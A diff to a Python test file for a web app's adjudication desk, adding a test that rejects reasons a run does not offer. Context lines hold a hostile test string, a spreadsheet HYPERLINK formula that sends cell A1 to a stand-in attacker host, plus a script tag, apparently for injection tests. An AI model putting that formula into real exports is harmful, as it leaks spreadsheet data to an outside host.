@@ -4,11 +4,22 @@ import csv
 import io
 import json
 import re
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.unit.web.desk import Browser, Desk, answer_to, claim, new_id
+from prefloop.web.config import WebSettings
+from tests.unit.web.desk import (
+    WORK_ONLY,
+    Browser,
+    Desk,
+    answer_to,
+    claim,
+    make_desk,
+    new_id,
+    open_store,
+)
 
 HOSTILE = '=HYPERLINK("https://evil.example/"&A1),"x"\n<script>alert(1)</script>'
 
@@ -40,6 +51,25 @@ def decide(olga: Browser, question: dict[str, Any], **said: Any) -> Any:
     chosen = question["samples"][0]["id"]
     body = {"comparison": question["comparison"], "answer": "best", "chosen": chosen} | said
     return olga.post("/api/adjudications", json=body)
+
+
+@pytest.mark.parametrize("offered", [(), ("shorter", "kinder")])
+def test_an_owner_gives_the_reasons_of_the_run_alone(
+    tmp_path: Path, offered: tuple[str, ...]
+) -> None:
+    with open_store(tmp_path) as store:
+        desk = make_desk(store, settings=WebSettings(claims=WORK_ONLY, reasons=offered))
+        _say(desk, "ann")
+        olga = desk.browser("olga")
+        [question] = listed(olga)
+        refused = decide(olga, question, details={"reasons": ["longer"]})
+        known = f"it has {', '.join(offered)}" if offered else "it has none"
+        assert refused.status_code == 422
+        assert f"This run has no reason 'longer'; {known}." in refused.json()["error"]["message"]
+        assert listed(olga)[0]["adjudication"] is None
+        taken = decide(olga, question, details={"reasons": list(offered)})
+        assert taken.status_code == 201
+        desk.app.state.services.close()
 
 
 def test_answers_are_filtered_and_paged(olga: Browser) -> None:
